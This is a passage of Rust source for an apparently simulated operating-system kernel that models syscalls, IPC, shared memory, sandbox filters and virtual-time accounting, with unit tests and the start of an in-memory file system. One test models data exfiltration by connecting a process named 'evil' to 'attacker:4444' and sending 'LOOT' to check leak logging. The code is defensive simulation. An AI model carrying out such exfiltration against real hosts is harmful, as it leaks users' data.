                Ok(SyscallRet::NewFd(fd))
            }

            // ---------------- sockets ----------------
            S::Socket => {
                let fd = self.process_mut(pid)?.install_fd(FdTarget::Socket {
                    dest: String::new(),
                });
                Ok(SyscallRet::NewFd(fd))
            }
            S::Connect { fd, dest } => {
                let is_gui = dest.starts_with("gui");
                match self.process_mut(pid)?.fd_table.get_mut(&fd) {
                    Some(FdTarget::Socket { dest: d }) => {
                        *d = dest;
                        if is_gui {
                            self.display.connect();
                        }
                        Ok(SyscallRet::Ok)
                    }
                    Some(_) => Err(Errno::Enosys.into()),
                    None => Err(Errno::Ebadf.into()),
                }
            }
            S::Bind { .. } | S::Listen { .. } => Ok(SyscallRet::Ok),
            S::Accept { fd: _ } => {
                let fd = self.process_mut(pid)?.install_fd(FdTarget::Socket {
                    dest: String::new(),
                });
                Ok(SyscallRet::NewFd(fd))
            }
            S::Send { fd, bytes } => {
                let dest = match self.process(pid)?.fd_target(fd) {
                    Some(FdTarget::Socket { dest }) => dest.clone(),
                    Some(_) => return Err(Errno::Enosys.into()),
                    None => return Err(Errno::Ebadf.into()),
                };
                self.net_send(pid, &dest, &bytes);
                Ok(SyscallRet::Num(bytes.len() as u64))
            }
            S::Sendto { fd, dest, bytes } => {
                self.process(pid)?.fd_target(fd).ok_or(Errno::Ebadf)?;
                self.net_send(pid, &dest, &bytes);
                Ok(SyscallRet::Num(bytes.len() as u64))
            }
            S::Recvfrom { fd, len } => {
                self.process(pid)?.fd_target(fd).ok_or(Errno::Ebadf)?;
                Ok(SyscallRet::Bytes(vec![0; len as usize]))
            }

            // ---------------- sync / shm ----------------
            S::Futex { .. } => Ok(SyscallRet::Ok),
            S::ShmOpen { .. } => {
                let fd = self
                    .process_mut(pid)?
                    .install_fd(FdTarget::Device(DeviceKind::Event));
                Ok(SyscallRet::NewFd(fd))
            }
            S::ShmUnlink { .. } => Ok(SyscallRet::Ok),

            // ---------------- misc ----------------
            S::Getrandom { len } => {
                let bytes: Vec<u8> = (0..len).map(|_| self.rng.gen()).collect();
                Ok(SyscallRet::Bytes(bytes))
            }
            S::Gettimeofday | S::ClockGettime => Ok(SyscallRet::Num(self.timeline_ns(pid))),
        }
    }

    fn net_send(&mut self, pid: Pid, dest: &str, bytes: &[u8]) {
        let ns = self.cost.copy_cost(bytes.len() as u64);
        self.charge_to(pid, ns);
        if dest.starts_with("gui") {
            self.display.blitted_bytes += bytes.len() as u64;
        }
        self.network.record(pid.0, dest, bytes);
    }

    // ------------------------------------------------------------------
    // IPC
    // ------------------------------------------------------------------

    /// Creates a shared-memory ring channel between two processes.
    pub fn create_channel(
        &mut self,
        a: Pid,
        b: Pid,
        capacity_bytes: usize,
    ) -> SimResult<ChannelId> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::CreateChannel {
            a,
            b,
            capacity: capacity_bytes,
        });
        let r = self.create_channel_impl(a, b, capacity_bytes);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn create_channel_impl(
        &mut self,
        a: Pid,
        b: Pid,
        capacity_bytes: usize,
    ) -> SimResult<ChannelId> {
        self.require_running(a)?;
        self.require_running(b)?;
        let id = ChannelId(self.next_channel);
        self.next_channel += 1;
        self.channels
            .insert(id, RingChannel::new(a, b, capacity_bytes));
        Ok(id)
    }

    /// Sends `payload` from `pid` over `chan`, charging the IPC round
    /// trip setup plus per-byte copy cost. The frame is stamped with the
    /// sender's virtual time *after* those charges, so a receiver on its
    /// own timeline can merge against the true completion of the send.
    pub fn ipc_send(&mut self, pid: Pid, chan: ChannelId, payload: &[u8]) -> SimResult<()> {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::IpcSend {
            pid,
            chan,
            payload: payload.to_vec(),
        });
        let r = self.ipc_send_impl(pid, chan, payload);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn ipc_send_impl(&mut self, pid: Pid, chan: ChannelId, payload: &[u8]) -> SimResult<()> {
        self.require_running(pid)?;
        let latency = self.cost.ipc_latency_ns();
        let copy = self.cost.copy_cost(payload.len() as u64);
        let send_ns = self.timeline_ns(pid) + latency + copy;
        let channel = self.channels.get_mut(&chan).ok_or(SimError::BadChannel)?;
        channel
            .send(pid, bytes::Bytes::copy_from_slice(payload), send_ns)
            .map_err(|e| match e {
                RingError::Full => SimError::Errno(Errno::Enospc),
                RingError::NotEndpoint => SimError::BadChannel,
            })?;
        self.charge_to(pid, latency);
        self.charge_to(pid, copy);
        self.metrics.ipc_messages += 1;
        self.metrics.ipc_bytes += payload.len() as u64;
        Ok(())
    }

    /// Receives the next message for `pid` on `chan`, if any. Under
    /// per-process time this applies the happens-before merge first:
    /// `recv = max(recv, frame.send_ns)`, then the delivery latency.
    pub fn ipc_recv(&mut self, pid: Pid, chan: ChannelId) -> SimResult<Option<Vec<u8>>> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::IpcRecv { pid, chan });
        let r = self.ipc_recv_impl(pid, chan);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn ipc_recv_impl(&mut self, pid: Pid, chan: ChannelId) -> SimResult<Option<Vec<u8>>> {
        self.require_running(pid)?;
        let latency = self.cost.ipc_latency_ns();
        let channel = self.channels.get_mut(&chan).ok_or(SimError::BadChannel)?;
        match channel.try_recv(pid) {
            Ok(Some(frame)) => {
                if self.mode == TimelineMode::PerProcess {
                    let t = self.timelines.entry(pid).or_default();
                    if frame.send_ns > t.now_ns() {
                        let delta = frame.send_ns - t.now_ns();
                        t.charge(delta);
                        self.metrics.timeline_merges += 1;
                    }
                }
                self.charge_to(pid, latency);
                Ok(Some(frame.payload.to_vec()))
            }
            Ok(None) => Ok(None),
            Err(_) => Err(SimError::BadChannel),
        }
    }

    /// Records `n` hooked calls delivered inside one batched IPC frame.
    /// Frames themselves are counted by [`Kernel::ipc_send`]; this
    /// counter keeps the per-call denominator honest when N calls share
    /// a frame.
    pub fn note_calls_batched(&mut self, n: u64) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::NoteCallsBatched { n });
        self.metrics.calls_batched += n;
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    /// Records `bytes` of snapshot payload actually copied (a dirty
    /// object). Snapshot reads are already uncharged in virtual time;
    /// these counters exist so incremental snapshots are measurable.
    pub fn note_snapshot_copy(&mut self, bytes: u64) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::NoteSnapshotCopy { bytes });
        self.metrics.snapshot_bytes_copied += bytes;
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    /// Records one stateful object a snapshot round proved clean via
    /// write epochs and skipped.
    pub fn note_snapshot_skip(&mut self) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::NoteSnapshotSkip);
        self.metrics.snapshot_objects_skipped += 1;
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    /// Re-binds a channel's B endpoint after an agent restart.
    pub fn rebind_channel(&mut self, chan: ChannelId, new_b: Pid) -> SimResult<()> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::RebindChannel { chan, new_b });
        let r = self.rebind_channel_impl(chan, new_b);
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    fn rebind_channel_impl(&mut self, chan: ChannelId, new_b: Pid) -> SimResult<()> {
        let channel = self.channels.get_mut(&chan).ok_or(SimError::BadChannel)?;
        channel.rebind_b(new_b);
        Ok(())
    }

    /// Charges raw virtual time (transport penalties, modeled stalls)
    /// to the current time context.
    pub fn charge_time(&mut self, ns: u64) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ChargeTime { ns });
        self.charge_ctx(ns);
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    /// Records a direct cross-address-space deep copy of `bytes` bytes
    /// (object marshalling / lazy-data-copy transfers), charged to the
    /// current time context.
    pub fn charge_copy(&mut self, bytes: u64) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ChargeCopy { bytes });
        let ns = self.cost.copy_cost(bytes);
        self.charge_ctx(ns);
        self.metrics.copied_bytes += bytes;
        self.metrics.copy_ops += 1;
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    /// Charges `units` of framework compute to `pid`.
    pub fn charge_compute(&mut self, pid: Pid, units: u64) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ChargeCompute { pid, units });
        let ns = self.cost.compute_cost(units);
        self.charge_to(pid, ns);
        if let Some(p) = self.procs.get_mut(&pid) {
            p.cpu_ns += ns;
        }
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    // ------------------------------------------------------------------
    // Introspection
    // ------------------------------------------------------------------

    /// The global virtual clock. Under [`TimelineMode::PerProcess`] this
    /// stops advancing (charges land on per-process timelines); use
    /// [`Kernel::makespan_ns`] / [`Kernel::timeline_ns`] instead.
    pub fn clock(&self) -> VirtualClock {
        self.clock
    }

    /// Current virtual time, in nanoseconds: the global clock, or the
    /// current time context's timeline under per-process time. Reading
    /// the clock never charges time — observability code can call this
    /// freely without perturbing deterministic measurements.
    pub fn now_ns(&self) -> u64 {
        match (self.mode, self.time_ctx) {
            (TimelineMode::PerProcess, Some(pid)) => self.timeline_ns(pid),
            _ => self.clock.now_ns(),
        }
    }

    /// The cost model in force.
    pub fn cost_model(&self) -> &CostModel {
        &self.cost
    }

    /// Counter snapshot.
    pub fn metrics(&self) -> Metrics {
        self.metrics
    }

    /// Resets clock, per-process timelines, and counters (not
    /// processes) between measurements.
    pub fn reset_accounting(&mut self) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ResetAccounting);
        self.clock.reset();
        for t in self.timelines.values_mut() {
            t.reset();
        }
        self.metrics = Metrics::new();
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    // ------------------------------------------------------------------
    // Logged harness/supervisor entry points
    // ------------------------------------------------------------------
    //
    // These exist so every state mutation the FreePart runtime or the
    // workload harness performs flows through a recordable kernel call
    // instead of poking public fields — a prerequisite for deterministic
    // replay.

    /// Creates or replaces a file (harness-side seeding; bypasses
    /// syscalls but is still a kernel state transition).
    pub fn fs_put(&mut self, path: &str, bytes: Vec<u8>) {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::FsPut {
            path: path.to_owned(),
            bytes: bytes.clone(),
        });
        self.fs.put(path, bytes);
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    /// Attaches a deterministic camera producing `frame_len`-byte frames
    /// seeded from `seed` (replacing any previous camera).
    pub fn attach_camera(&mut self, seed: u64, frame_len: usize) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::AttachCamera { seed, frame_len });
        self.camera = Some(Camera::new(seed, frame_len));
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    /// Seals `pid` against future privilege changes from the *outside*
    /// (the runtime's supervisor-side `PR_SET_NO_NEW_PRIVS`): after this,
    /// [`Kernel::install_filter`] on the pid fails with `EPERM`. Unlike
    /// [`Syscall::PrctlNoNewPrivs`] issued by the process itself, this
    /// does not lock an installed filter's rule set — the runtime seals
    /// after installing exactly the filter it wants.
    ///
    /// # Errors
    ///
    /// [`SimError::NoSuchProcess`] if the pid is unknown.
    pub fn set_no_new_privs(&mut self, pid: Pid) -> SimResult<()> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::SetNoNewPrivs { pid });
        let r = self
            .procs
            .get_mut(&pid)
            .ok_or(SimError::NoSuchProcess(pid))
            .map(|p| {
                p.no_new_privs = true;
            });
        self.commit_exit(op, commit::outcome_of(&r));
        r
    }

    /// Force-exits a running process with `code` (the supervisor's
    /// pre-reap termination of a wedged agent). Returns whether the
    /// process was running and is now exited; dead or unknown pids are
    /// left untouched.
    pub fn force_exit(&mut self, pid: Pid, code: i32) -> bool {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::ForceExit { pid, code });
        let changed = match self.procs.get_mut(&pid) {
            Some(p) if p.is_running() => {
                p.state = ProcessState::Exited(code);
                true
            }
            _ => false,
        };
        self.commit_exit(op, CommitOutcome::Ok(changed.summary()));
        changed
    }

    // ------------------------------------------------------------------
    // Logged GUI entry points
    // ------------------------------------------------------------------

    /// Creates a GUI window (the kernel-mediated `namedWindow`).
    pub fn win_create(&mut self, title: &str) -> WindowId {
        let rec = self.commit_enter();
        let op = rec.then(|| CommitOp::WinCreate {
            title: title.to_owned(),
        });
        let id = self.display.create_window(title);
        self.commit_exit(op, CommitOutcome::Ok(id.summary()));
        id
    }

    /// Presents `frame_len` bytes to `win`; false if the window is gone.
    pub fn win_present(&mut self, win: WindowId, frame_len: usize) -> bool {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::WinPresent { win, frame_len });
        let ok = self.display.present(win, frame_len);
        self.commit_exit(op, CommitOutcome::Ok(ok.summary()));
        ok
    }

    /// Destroys every GUI window (`destroyAllWindows`).
    pub fn win_destroy_all(&mut self) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::WinDestroyAll);
        self.display.destroy_all();
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    /// Polls one key press off the GUI input queue (`pollKey`).
    pub fn win_poll_key(&mut self) -> Option<u8> {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::WinPollKey);
        let key = self.display.poll_key();
        self.commit_exit(op, CommitOutcome::Ok(key.summary()));
        key
    }

    /// Queues a synthetic key press (workload input).
    pub fn push_key(&mut self, key: u8) {
        let rec = self.commit_enter();
        let op = rec.then_some(CommitOp::PushKey { key });
        self.display.push_key(key);
        self.commit_exit(op, CommitOutcome::Ok(0));
    }

    /// Number of pages currently mapped across all processes.
    pub fn total_pages(&self) -> u64 {
        self.procs
            .values()
            .map(|p| p.aspace.mapped_bytes() / PAGE_SIZE)
            .sum()
    }
}

impl std::fmt::Debug for Kernel {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Kernel")
            .field("procs", &self.procs.len())
            .field("channels", &self.channels.len())
            .field("clock_ns", &self.clock.now_ns())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::syscall::SyscallNo;

    #[test]
    fn spawn_and_alloc_isolated_address_spaces() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let addr = k.alloc(a, 16, Perms::RW).unwrap();
        k.mem_write(a, addr, b"private").unwrap();
        // Same numeric address in b is unmapped — isolation.
        let err = k.mem_read(b, addr, 7).unwrap_err();
        assert!(err.is_fault());
        assert!(!k.is_running(b), "wild read crashed b");
        assert!(k.is_running(a));
    }

    #[test]
    fn readonly_page_write_crashes_writer() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        let addr = k.alloc(p, 8, Perms::RW).unwrap();
        k.protect(p, addr, 8, Perms::R).unwrap();
        let err = k.mem_write(p, addr, b"x").unwrap_err();
        assert_eq!(err.as_fault().unwrap().kind, FaultKind::Protection);
        assert!(!k.is_running(p));
        assert_eq!(k.metrics().faults, 1);
    }

    #[test]
    fn filter_denial_kills_process() {
        let mut k = Kernel::new();
        let p = k.spawn("agent");
        k.install_filter(p, SyscallFilter::allowing([SyscallNo::Getpid]))
            .unwrap();
        assert!(k.syscall(p, Syscall::Getpid).is_ok());
        let err = k.syscall(p, Syscall::Fork).unwrap_err();
        assert!(matches!(
            err.as_fault().unwrap().kind,
            FaultKind::SyscallDenied(SyscallNo::Fork)
        ));
        assert!(!k.is_running(p));
        assert_eq!(k.metrics().filter_kills, 1);
    }

    #[test]
    fn no_new_privs_locks_filter_reconfiguration() {
        let mut k = Kernel::new();
        let p = k.spawn("agent");
        k.install_filter(
            p,
            SyscallFilter::allowing([SyscallNo::Prctl, SyscallNo::Getpid]),
        )
        .unwrap();
        k.syscall(p, Syscall::PrctlNoNewPrivs).unwrap();
        // An attacker inside the process cannot swap the filter.
        let err = k
            .install_filter(p, SyscallFilter::allowing(SyscallNo::ALL.iter().copied()))
            .unwrap_err();
        assert_eq!(err, SimError::Errno(Errno::Eperm));
    }

    #[test]
    fn file_syscall_roundtrip() {
        let mut k = Kernel::new();
        let p = k.spawn("loader");
        k.fs.put("/in.png", vec![9, 8, 7]);
        let fd = k
            .syscall(
                p,
                Syscall::Openat {
                    path: "/in.png".into(),
                    create: false,
                },
            )
            .unwrap()
            .fd();
        let bytes = k.syscall(p, Syscall::Read { fd, len: 10 }).unwrap().bytes();
        assert_eq!(bytes, vec![9, 8, 7]);
        // Cursor advanced; next read is empty.
        let rest = k.syscall(p, Syscall::Read { fd, len: 10 }).unwrap().bytes();
        assert!(rest.is_empty());
    }

    #[test]
    fn socket_send_reaches_network_log() {
        let mut k = Kernel::new();
        let p = k.spawn("evil");
        let fd = k.syscall(p, Syscall::Socket).unwrap().fd();
        k.syscall(
            p,
            Syscall::Connect {
                fd,
                dest: "attacker:4444".into(),
            },
        )
        .unwrap();
        k.syscall(
            p,
            Syscall::Send {
                fd,
                bytes: b"LOOT".to_vec(),
            },
        )
        .unwrap();
        assert!(k.network.leaked(b"LOOT"));
    }

    #[test]
    fn camera_read_serves_frames() {
        let mut k = Kernel::new();
        k.camera = Some(Camera::new(1, 32));
        let p = k.spawn("cap");
        let fd = k
            .syscall(
                p,
                Syscall::Openat {
                    path: "/dev/video0".into(),
                    create: false,
                },
            )
            .unwrap()
            .fd();
        let frame = k.syscall(p, Syscall::Read { fd, len: 0 }).unwrap().bytes();
        assert_eq!(frame.len(), 32);
    }

    #[test]
    fn ipc_roundtrip_counts_metrics_and_time() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let ch = k.create_channel(a, b, 1 << 20).unwrap();
        let t0 = k.clock().now_ns();
        k.ipc_send(a, ch, b"request").unwrap();
        let msg = k.ipc_recv(b, ch).unwrap().unwrap();
        assert_eq!(msg, b"request");
        assert!(k.clock().now_ns() > t0);
        assert_eq!(k.metrics().ipc_messages, 1);
        assert_eq!(k.metrics().ipc_bytes, 7);
        assert_eq!(k.ipc_recv(b, ch).unwrap(), None);
    }

    #[test]
    fn dead_process_cannot_syscall() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        k.syscall(p, Syscall::Exit { code: 0 }).unwrap();
        assert!(matches!(
            k.syscall(p, Syscall::Getpid),
            Err(SimError::ProcessDead(_))
        ));
    }

    #[test]
    fn mprotect_syscall_counts_pages() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        let addr = k.alloc(p, 3 * PAGE_SIZE, Perms::RW).unwrap();
        let pages = k
            .syscall(
                p,
                Syscall::Mprotect {
                    addr,
                    len: 3 * PAGE_SIZE,
                    perms: Perms::R,
                },
            )
            .unwrap()
            .num();
        assert_eq!(pages, 3);
        assert_eq!(k.metrics().protected_pages, 3);
    }

    #[test]
    fn kill_syscall_crashes_target() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        k.syscall(a, Syscall::Kill { target_pid: b.0 }).unwrap();
        assert!(!k.is_running(b));
    }

    #[test]
    fn charge_copy_and_compute_advance_clock() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        let t0 = k.clock().now_ns();
        k.charge_copy(4096);
        k.charge_compute(p, 1000);
        assert!(k.clock().now_ns() > t0);
        assert_eq!(k.metrics().copied_bytes, 4096);
        assert_eq!(k.metrics().copy_ops, 1);
        assert!(k.process(p).unwrap().cpu_ns > 0);
    }

    #[test]
    fn reset_accounting_clears_clock_and_metrics() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        k.charge_compute(p, 10);
        k.reset_accounting();
        assert_eq!(k.clock().now_ns(), 0);
        assert_eq!(k.metrics(), Metrics::new());
    }

    #[test]
    fn per_process_time_overlaps_independent_work() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        k.enable_per_process_time();
        k.reset_accounting();
        // Independent compute on two processes overlaps: the makespan is
        // the max, not the sum.
        k.charge_compute(a, 100);
        k.charge_compute(b, 300);
        let unit = k.cost_model().compute_ns_per_unit;
        assert_eq!(k.timeline_ns(a), 100 * unit);
        assert_eq!(k.timeline_ns(b), 300 * unit);
        assert_eq!(k.makespan_ns(), 300 * unit);
    }

    #[test]
    fn message_delivery_merges_receiver_past_sender() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let ch = k.create_channel(a, b, 1 << 20).unwrap();
        k.enable_per_process_time();
        k.reset_accounting();
        k.charge_compute(a, 1_000); // a is far ahead of b
        let a_ns = k.timeline_ns(a);
        k.ipc_send(a, ch, b"m").unwrap();
        let send_done = k.timeline_ns(a);
        assert!(send_done > a_ns);
        // b was at 0; delivery drags it past a's send completion.
        k.ipc_recv(b, ch).unwrap().unwrap();
        assert_eq!(
            k.timeline_ns(b),
            send_done + k.cost_model().ipc_latency_ns()
        );
        assert_eq!(k.metrics().timeline_merges, 1);
    }

    #[test]
    fn delivery_to_a_busy_receiver_does_not_rewind() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let ch = k.create_channel(a, b, 1 << 20).unwrap();
        k.enable_per_process_time();
        k.reset_accounting();
        k.ipc_send(a, ch, b"m").unwrap();
        k.charge_compute(b, 10_000); // b is already past the send time
        let b_ns = k.timeline_ns(b);
        k.ipc_recv(b, ch).unwrap().unwrap();
        assert_eq!(k.timeline_ns(b), b_ns + k.cost_model().ipc_latency_ns());
        assert_eq!(k.metrics().timeline_merges, 0);
    }

    #[test]
    fn advance_timeline_is_monotone_and_counted() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        k.enable_per_process_time();
        k.reset_accounting();
        k.advance_timeline_to(a, 5_000);
        assert_eq!(k.timeline_ns(a), 5_000);
        k.advance_timeline_to(a, 4_000); // already past: no-op
        assert_eq!(k.timeline_ns(a), 5_000);
        assert_eq!(k.metrics().timeline_merges, 1);
    }

    #[test]
    fn global_mode_ignores_timeline_helpers() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let before = k.now_ns();
        k.advance_timeline_to(a, before + 9_999_999);
        assert_eq!(k.now_ns(), before);
        assert_eq!(k.makespan_ns(), before);
        assert_eq!(k.timeline_ns(a), before);
    }

    #[test]
    fn spawn_under_per_process_time_seeds_child_at_spawner_time() {
        let mut k = Kernel::new();
        let host = k.spawn("host");
        k.enable_per_process_time();
        k.reset_accounting();
        k.charge_compute(host, 500);
        k.set_time_context(Some(host));
        let child = k.spawn("child");
        k.set_time_context(None);
        assert_eq!(k.timeline_ns(child), k.timeline_ns(host));
        assert!(k.timeline_ns(child) >= k.cost_model().spawn_ns);
    }

    #[test]
    fn shm_grant_map_read_write_roundtrip() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let id = k.shm_create(a, vec![7; 5000]).unwrap();
        assert_eq!(k.shm_read(a, id).unwrap(), vec![7; 5000]);

        // b has no grant yet: the read is a protection fault that kills b.
        assert!(k.shm_read(b, id).unwrap_err().is_fault());
        assert!(!k.is_running(b));
        assert_eq!(k.metrics().faults, 1);

        let c = k.spawn("c");
        k.shm_grant(id, c, Perms::RW).unwrap();
        assert_eq!(k.shm_map(c, id).unwrap(), 5000);
        k.shm_write(c, id, &[9; 5000]).unwrap();
        assert_eq!(k.shm_read(a, id).unwrap(), vec![9; 5000]);
        // Two owners-worth of mappings counted, zero bytes copied.
        assert_eq!(k.metrics().shm_grants, 2);
        assert_eq!(k.metrics().shm_mapped_bytes, 10_000);
        assert_eq!(k.metrics().copied_bytes, 0);
    }

    #[test]
    fn shm_revoke_makes_stale_access_fault() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let id = k.shm_create(a, vec![1; 100]).unwrap();
        k.shm_grant(id, b, Perms::R).unwrap();
        k.shm_map(b, id).unwrap();
        assert_eq!(k.shm_read(b, id).unwrap(), vec![1; 100]);

        assert!(k.shm_revoke(id, b).unwrap());
        assert!(!k.shm_revoke(id, b).unwrap(), "second revoke is a no-op");
        assert_eq!(k.metrics().shm_revokes, 1);
        // The stale consumer faults; the payload and owner are untouched.
        assert!(k.shm_read(b, id).unwrap_err().is_fault());
        assert!(!k.is_running(b));
        assert!(k.is_running(a));
        assert_eq!(k.shm_read(a, id).unwrap(), vec![1; 100]);
    }

    #[test]
    fn shm_protect_all_downgrades_every_grant() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let id = k.shm_create(a, vec![2; 4096]).unwrap();
        let pages_before = k.metrics().protected_pages;
        assert_eq!(k.shm_protect_all(id, Perms::R).unwrap(), 1);
        assert_eq!(k.metrics().protected_pages, pages_before + 1);
        // Reads still work; a write now faults (temporal lock semantics).
        assert_eq!(k.shm_read(a, id).unwrap().len(), 4096);
        assert!(k.shm_write(a, id, &[0; 4096]).unwrap_err().is_fault());
        assert!(!k.is_running(a));
    }

    #[test]
    fn shm_segment_survives_owner_crash() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let id = k.shm_create(a, vec![3; 64]).unwrap();
        k.shm_grant(id, b, Perms::R).unwrap();
        k.shm_map(b, id).unwrap();
        k.deliver_fault(a, FaultKind::Abort, None);
        // Kernel-owned payload outlives the process that created it.
        assert_eq!(k.shm_read(b, id).unwrap(), vec![3; 64]);
    }

    #[test]
    fn shm_mapping_is_cheaper_than_copying() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let id = k.shm_create(a, vec![0; 64 * 1024]).unwrap();
        let t0 = k.now_ns();
        k.shm_grant(id, b, Perms::R).unwrap();
        k.shm_map(b, id).unwrap();
        let mapped_ns = k.now_ns() - t0;
        assert!(mapped_ns < k.cost_model().copy_cost(64 * 1024));
    }

    #[test]
    fn reap_frees_pages_and_purges_shm_views() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        k.alloc(a, 3 * PAGE_SIZE, Perms::RW).unwrap();
        let id = k.shm_create(a, vec![7; 64]).unwrap();
        k.shm_grant(id, b, Perms::R).unwrap();
        let before = k.total_pages();
        k.deliver_fault(a, FaultKind::Abort, None);
        let freed = k.reap(a).unwrap();
        assert_eq!(freed, 3);
        assert_eq!(k.total_pages(), before - 3);
        assert_eq!(k.metrics().reaps, 1);
        // The corpse's views are gone; the segment and b's grant survive.
        let seg = k.shm_segment(id).unwrap();
        assert_eq!(seg.grant_of(a), None);
        assert!(!seg.is_mapped(a));
        assert_eq!(seg.grant_of(b), Some(Perms::R));
        // Double reap is an error, not a silent no-op.
        assert!(matches!(k.reap(a), Err(SimError::NoSuchProcess(_))));
    }

    #[test]
    fn reap_refuses_a_running_process() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        assert!(matches!(k.reap(a), Err(SimError::Errno(Errno::Eperm))));
        assert!(k.is_running(a));
    }

    #[test]
    fn write_epochs_change_only_on_writes() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let addr = k.alloc(a, 2 * PAGE_SIZE, Perms::RW).unwrap();
        let e0 = k.write_epoch(a, addr, 2 * PAGE_SIZE).unwrap();
        // Reads and protection flips leave the epoch alone.
        k.mem_read(a, addr, 16).unwrap();
        k.protect(a, addr, 2 * PAGE_SIZE, Perms::R).unwrap();
        k.protect(a, addr, 2 * PAGE_SIZE, Perms::RW).unwrap();
        assert_eq!(k.write_epoch(a, addr, 2 * PAGE_SIZE).unwrap(), e0);
        // A write to the second page bumps the range epoch but not the
        // first page's own epoch.
        let p1 = k.write_epoch(a, addr, PAGE_SIZE).unwrap();
        k.mem_write(a, Addr(addr.0 + PAGE_SIZE), &[9; 8]).unwrap();
        assert!(k.write_epoch(a, addr, 2 * PAGE_SIZE).unwrap() > e0);
        assert_eq!(k.write_epoch(a, addr, PAGE_SIZE).unwrap(), p1);
        // Unmapped ranges and dead processes have no epoch.
        assert_eq!(k.write_epoch(a, Addr(addr.0 + 64 * PAGE_SIZE), 1), None);
        k.deliver_fault(a, FaultKind::Abort, None);
        assert_eq!(k.write_epoch(a, addr, PAGE_SIZE), None);
    }

    #[test]
    fn shm_write_epoch_tracks_payload_replacement() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let id = k.shm_create(a, vec![1; 128]).unwrap();
        let e0 = k.shm_segment(id).unwrap().write_epoch();
        k.shm_read(a, id).unwrap();
        assert_eq!(k.shm_segment(id).unwrap().write_epoch(), e0);
        k.shm_write(a, id, &[2; 128]).unwrap();
        assert!(k.shm_segment(id).unwrap().write_epoch() > e0);
    }
}
