//! An in-memory file system for the simulated OS.
//!
//! Data-loading and storing agents exercise this through `openat`/`read`/
//! `write`/`lseek`; it is deliberately tiny — a flat path → bytes map with
//! directory prefixes — because FreePart's behaviour depends only on *that
//! file traffic happens*, not on a realistic VFS.

use crate::commit::{fold_bytes, hash_str, mix, FINGERPRINT_SEED};
use crate::error::Errno;
use std::collections::BTreeMap;

/// Flat in-memory file system.
///
/// # Example
///
/// ```
/// use freepart_simos::SimFs;
///
/// let mut fs = SimFs::new();
/// fs.put("/data/img0.png", vec![1, 2, 3]);
/// assert_eq!(fs.get("/data/img0.png").unwrap(), &[1, 2, 3]);
/// assert!(fs.get("/nope").is_none());
/// ```
#[derive(Debug, Clone)]
pub struct SimFs {
    files: BTreeMap<String, Vec<u8>>,
    dirs: BTreeMap<String, ()>,
    /// Incremental fingerprint over the mutation history (puts, writes,
    /// unlinks, renames, mkdirs), so the kernel state digest never has to
    /// re-hash file contents.
    fp: u64,
}

impl Default for SimFs {
    fn default() -> Self {
        SimFs {
            files: BTreeMap::new(),
            dirs: BTreeMap::new(),
            fp: FINGERPRINT_SEED,
        }
    }
}

impl SimFs {
    /// An empty file system containing only the root directory.
    pub fn new() -> SimFs {
        let mut fs = SimFs::default();
        fs.dirs.insert("/".to_owned(), ());
        fs
    }

    /// Creates or replaces a file (harness-side seeding; bypasses syscalls).
